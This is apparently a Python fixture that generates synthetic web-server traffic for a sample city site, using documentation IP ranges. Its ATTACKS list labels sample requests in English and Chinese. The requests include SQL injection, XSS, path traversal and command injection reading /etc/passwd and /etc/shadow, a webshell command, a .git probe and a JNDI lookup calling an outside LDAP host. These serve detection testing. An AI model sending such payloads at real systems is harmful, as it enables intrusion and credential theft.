"""Who visits the sample city and what attackers try there. Documentation addresses only; nobody is meant."""

from __future__ import annotations

from dataclasses import dataclass

ATTACKERS = [f"198.51.100.{number}" for number in range(11, 71)]
VISITORS = [f"192.0.2.{number}" for number in range(1, 255)] + [f"2001:db8:64::{number:x}" for number in range(1, 40)]
#: Share of the day's traffic that falls on each hour of the bureau's clock.
HOURS = [2, 1, 1, 1, 1, 2, 3, 5, 9, 11, 11, 9, 6, 7, 10, 11, 10, 8, 5, 4, 4, 3, 3, 2]

PAGES = [
    "/",
    "/index.html",
    "/zwgk/list",
    "/bsfw/guide?id={n}",
    "/static/app.js",
    "/static/logo.png",
    "/api/news?page={n}",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/110.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]


@dataclass(frozen=True, slots=True)
class Attack:
    """One thing attackers try: its class in the words of different vendors, a request and who sends it."""

    english: str
    chinese: str
    signature: str
    request: str
    agent: str


ATTACKS = [
    Attack("SQL_Injection", "SQL注入", "SQLi UNION SELECT in URI", "/list?id=1' union select 1,user()--", "sqlmap/1.8"),
    Attack(
        "Cross_Site_Scripting", "XSS攻击", "XSS script tag in parameter", "/s?q=<script>alert(1)</script>", AGENTS[0]
    ),
    Attack("Path_Traversal", "目录遍历", "Directory traversal passwd", "/d?f=../../../../etc/passwd", "curl/8.5.0"),
    Attack(
        "Command_Injection",
        "命令注入",
        "Command injection in parameter",
        "/ping?h=;cat /etc/shadow",
        "python-requests/2.32",
    ),
    Attack("Webshell", "Webshell上传", "Webshell upload attempt", "/upload/a.jsp?cmd=id", AGENTS[1]),
    Attack("Information_Leak", "信息泄露", "Git config exposure probe", "/.git/config", "Go-http-client/1.1"),
    Attack("Scanner", "漏洞扫描", "Vulnerability scanner user agent", "/manager/html", "Nuclei/3.2"),
    Attack("JNDI_Injection", "JNDI注入", "JNDI lookup in header", "/?x=${jndi:ldap://192.0.2.66/a}", "curl/8.5.0"),
]
